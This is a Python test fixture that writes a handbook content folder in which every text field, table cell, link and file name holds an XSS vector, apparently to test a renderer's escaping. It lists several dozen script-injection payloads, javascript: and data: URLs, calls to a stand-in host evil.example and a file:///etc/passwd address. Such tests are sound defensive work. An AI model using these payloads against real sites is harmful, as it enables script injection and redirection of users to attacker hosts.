"""Texts that would run, fetch or draw something if a page took them for markup, and a handbook full of them."""

import json

# Each calls `alert`, or makes an element with the attribute `data-in`, or asks another host.
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1) data-in",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG \"\"\"><script>alert(1)</script>\">",
    "<img srcset=//evil.example/x.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary>",
    "<kbd onclick=alert(1) data-in>K</kbd>",
    "<abbr title='\"onmouseover=alert(1) data-in x=\"'>A</abbr>",
    "<abbr title=\"&quot;><script>alert(1)</script>\">A</abbr>",
    "<mark autofocus tabindex=0 onfocus=alert(1) data-in>x</mark>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x>",
    "<form action=//evil.example><button data-in>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/y)}</style>",
    "<p style=background:url(//evil.example/z) data-in>x</p>",
    "<template><b data-in></template><b data-in>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><b data-in>x</b>",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php ?><b data-in>x</b>",
    "\"><b data-in onmouseover=alert(1)>",
    "' autofocus onfocus=alert(1) data-in='",
    "\" autofocus onfocus=alert(1) data-in=\"",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u2028</script><script>alert(1)</script>",
    "<\u0000script>alert(1)</script>".replace("\u0000", "\ufffd"),
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(1)",
]

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)", "java&Tab;script:alert(1)", "\x01javascript:alert(1)", "javascript://x/%0Aalert(1)",
    "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:x", "file:///etc/passwd", "//evil.example/x", "\\\\\\\\evil.example/x", "/\\evil.example/x", "view-source:x",
    "filesystem:x", "x\" onmouseover=\"alert(1)", "x' onerror='alert(1)", "<javascript:alert(1)>",
]  # fmt: skip

NAMES = [  # of folders and files; one with < > " : is refused, and no page
    "' onfocus='alert(1)' autofocus='", "'onmouseover='alert(1)", "&lt;img src=x onerror=alert(1)&gt;",
    "&lt;b data-in&gt;", "javascript&colon;alert(1)", "{{constructor}}", "a;url=javascript&colon;alert(1)", "`x`",
]  # fmt: skip


def yaml(text):
    """A text as YAML: JSON's strings are a part of it."""
    return json.dumps(text, ensure_ascii=True)


def cell(text):
    return text.replace("|", "\\|").replace("\n", " ")


def page(number, text):
    """A page with a vector in every place that takes a text."""
    quoted, inside = yaml(text), cell(text)
    return f"""---
title: {yaml(f'T{number} ' + text)}
summary: {quoted}
tags: [{quoted}]
heard: [{quoted}]
synonyms: [{quoted}]
owner: {quoted}
sources: [s{number}]
card: {{title: {yaml(f'C{number} ' + text)}}}
extra: {{x: {quoted}}}
---

# {text}

{text}

para {text} **{text}** *{text}* ~~{text}~~ `{text}` [{text}](index.md "{inside.replace(chr(34), '')}") ![{text}](desk.png)

## heading {text}

- item {text}
  - [ ] task {text}

> quote {text}

> [!NOTE]
> {text}

> [!SAY]
> say {text} {{{{v}}}} {{{{f}}}}

> [!AVOID]
> never {text}

| Say | Instead of | When | Why |
| --- | --- | --- | --- |
| row {inside} | {inside} | {inside} | {inside} |

| a | b |
| :-: | --: |
| {inside} | {inside} |

```{text.split(chr(96))[0]}
{text}
```

<details><summary>{text}</summary>

{text}

</details>

Note.[^1]

[^1]: {text}
"""


def links(address):
    """An address in every place that takes one."""
    return (
        f"[inline]({address}) [pointed](<{address.replace('<', '').replace('>', '')}>) ![image]({address}) [ref][r]\n\n"
        f"<{address}>\n\n<a href=\"{address}\">raw</a> <img src=\"{address}\">\n\n[r]: {address}\n\n"
    )


def kinds(text):
    """Pages of the other kinds, by their names."""
    steps = f"## One {text}\n\n> [!SAY]\n> {text}\n\n- [Go {text}](#two)\n\n## Two\n\n> [!OUTCOME]\n> {text}\n"
    return {
        "script": steps,
        "faq": f"## Why {text}?\n\n{text}\n",
        "practice": f"## Scene {text}\n\n> {text}\n\n> [!SAY]\n> {text}\n\n- [ ] {text}\n",
        "model": f"## Hear {text}\n\n{text}\n\n## Ask\n\n{text}\n",
        "card": f"{text}\n\n---\n\n{text}\n",
    }


def write(content):
    """Writes the handbook into a content folder; the number of vectors in their places."""
    texts = MARKUP
    content.mkdir(parents=True, exist_ok=True)
    first = texts[0]
    everything = yaml(" ".join(texts[:12]))
    rules = ", ".join(
        f"{rule}: off" for rule in
        ("orphan-page", "link-target", "link-scheme", "link-anchor", "card-fit", "card-glyph", "placeholder", "acronym",
         "avoided-phrase", "script-target", "script-unreachable", "script-dead-end", "undefined-reference")
    )  # fmt: skip
    (content / "handbook.yml").write_text(
        f"title: {everything}\norganization: {everything}\nvalues: {{v: {everything}}}\nrules: {{{rules}}}\n"
        f"fields:\n  f: {{label: {everything}, type: text, example: {everything}}}\n"
        f"  g: {{label: {yaml(first)}, type: choice, choices: [{', '.join(map(yaml, texts[:6]))}]}}\n"
        f"cards: {{categories: {{c: {{label: {yaml(first)}}}}}}}\n"
    )
    (content / "sources.yml").write_text(
        "".join(
            f"s{number}: {{title: {yaml(text)}, author: {yaml(text)}, url: {yaml(ADDRESSES[number % len(ADDRESSES)])}}}\n"
            for number, text in enumerate(texts)
        )
    )
    (content / "synonyms.txt").write_text("".join(f"word{number}, {cell(text).replace(',', ' ')}\n" for number, text in enumerate(texts)))
    (content / "desk.png").write_bytes(b"\x89PNG")
    (content / "index.md").write_text("# Home\n\n" + "".join(map(links, ADDRESSES)))
    for number, text in enumerate(texts):
        (content / f"v{number}.md").write_text(page(number, text))
        for kind, body in kinds(text).items():
            if number % 5 == list(kinds("")).index(kind):
                (content / f"{kind}{number}.md").write_text(f"---\ntitle: {yaml(text)}\nkind: {kind}\nowner: x\n---\n\n{body}")
    for number, name in enumerate(NAMES):
        (content / name).mkdir(exist_ok=True)
        (content / name / f"{name}.md").write_text(f"---\naliases: [{yaml(f'old{number}/{name}.md')}]\n---\n\n[home](../index.md)\n")
    return len(texts) * 33 + len(ADDRESSES) * 7 + len(NAMES) * 3
